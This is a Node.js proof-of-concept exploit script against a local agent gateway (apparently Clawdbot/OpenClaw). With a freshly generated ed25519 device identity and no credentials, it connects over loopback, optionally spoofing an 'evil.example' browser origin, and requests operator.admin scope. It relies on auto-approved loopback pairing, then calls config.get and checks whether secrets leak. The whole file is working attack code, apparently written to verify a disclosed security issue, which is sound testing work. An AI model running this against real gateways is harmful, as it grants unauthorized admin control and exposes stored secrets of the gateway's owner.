#!/usr/bin/env node
// The local-user attack of the security issue, as a standalone script: connect to a gateway over loopback
// with a FRESH ed25519 device identity and no token or password (what any other local user, or a web page
// through the browser, can do), ask for operator.admin, then call config.get. The gateway auto-approves
// device pairing from loopback, so with auth "none" this gets admin and the resolved secrets.
//
//   node device-attack.mjs --url ws://127.0.0.1:PORT [--origin https://evil.example] [--ws-from DIR]
//                          [--protocol 3|4] [--secret VALUE]... [--timeout-ms N]
// --ws-from: a folder from which `ws` resolves (the gateway's own node_modules in a container); else this
// script's. --protocol: the highest protocol offered (the lowest is 3): 3 for Clawdbot (the default); 4 for
// OpenClaw, which refuses a `cli` client at protocol 3 ("protocol mismatch") before it looks at auth at all,
// so at 3 the attack would prove nothing there. The device proof is signed as both accept it (payload v2).
// Prints one JSON line: { connected, scopes?, configRead, leaked, error?, code? } (code: the refusal's
// details.code); exit 0 unless misused.
import { createHash, generateKeyPairSync, sign } from "node:crypto";
import { createRequire } from "node:module";
import { join } from "node:path";

const args = process.argv.slice(2);
const opt = { secrets: [], timeoutMs: 10_000, protocol: 3 };
for (let i = 0; i < args.length; i += 2) {
  const [flag, value] = [args[i], args[i + 1]];
  if (value === undefined) throw new Error(`${flag} needs a value`);
  if (flag === "--url") opt.url = value;
  else if (flag === "--origin") opt.origin = value;
  else if (flag === "--ws-from") opt.wsFrom = value;
  else if (flag === "--secret") opt.secrets.push(value);
  else if (flag === "--timeout-ms") opt.timeoutMs = Number(value);
  else if (flag === "--protocol") opt.protocol = Number(value);
  else throw new Error(`unknown flag ${flag}`);
}
if (!opt.url) throw new Error("--url is required");

const require = createRequire(opt.wsFrom ? join(opt.wsFrom, "noop.js") : import.meta.url);
const WebSocket = require("ws");

const b64url = (buf) => buf.toString("base64").replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/g, "");
const { publicKey, privateKey } = generateKeyPairSync("ed25519");
const raw = publicKey.export({ type: "spki", format: "der" }).subarray(12);
const deviceId = createHash("sha256").update(raw).digest("hex");
const scopes = ["operator.admin"];

const result = { connected: false, configRead: false, leaked: false };
const finish = (extra = {}) => {
  process.stdout.write(JSON.stringify({ ...result, ...extra }) + "\n");
  process.exit(0);
};
setTimeout(() => finish({ error: "timed out" }), opt.timeoutMs).unref();

const ws = new WebSocket(opt.url, opt.origin ? { headers: { Origin: opt.origin } } : {});
ws.on("error", (err) => finish({ error: String(err.message ?? err) }));
ws.on("close", (code, reason) => finish({ error: `closed (${code}) ${String(reason)}`.trim() }));
ws.on("message", (data) => {
  let frame;
  try {
    frame = JSON.parse(String(data));
  } catch {
    return;
  }
  if (frame.type === "event" && frame.event === "connect.challenge") {
    const nonce = frame.payload?.nonce;
    const signedAt = Date.now();
    const payload = ["v2", deviceId, "cli", "cli", "operator", scopes.join(","), String(signedAt), "", nonce ?? ""].join("|");
    const signature = b64url(sign(null, Buffer.from(payload, "utf8"), privateKey));
    ws.send(
      JSON.stringify({
        type: "req",
        id: "c1",
        method: "connect",
        params: {
          minProtocol: 3,
          maxProtocol: opt.protocol,
          client: { id: "cli", version: "attack", platform: process.platform, mode: "cli" },
          role: "operator",
          scopes,
          caps: [],
          device: { id: deviceId, publicKey: b64url(raw), signature, signedAt, nonce },
        },
      }),
    );
  } else if (frame.type === "res" && frame.id === "c1") {
    if (!frame.ok) finish({ error: frame.error?.message ?? "connect refused", ...(frame.error?.details?.code ? { code: frame.error.details.code } : {}) });
    result.connected = true;
    result.scopes = frame.payload?.auth?.scopes ?? frame.payload?.scopes;
    ws.send(JSON.stringify({ type: "req", id: "g1", method: "config.get", params: {} }));
  } else if (frame.type === "res" && frame.id === "g1") {
    result.configRead = frame.ok === true;
    const text = JSON.stringify(frame.payload ?? frame.error ?? null);
    result.leaked = opt.secrets.some((s) => s && text.includes(s));
    finish(frame.ok ? {} : { error: frame.error?.message });
  }
});
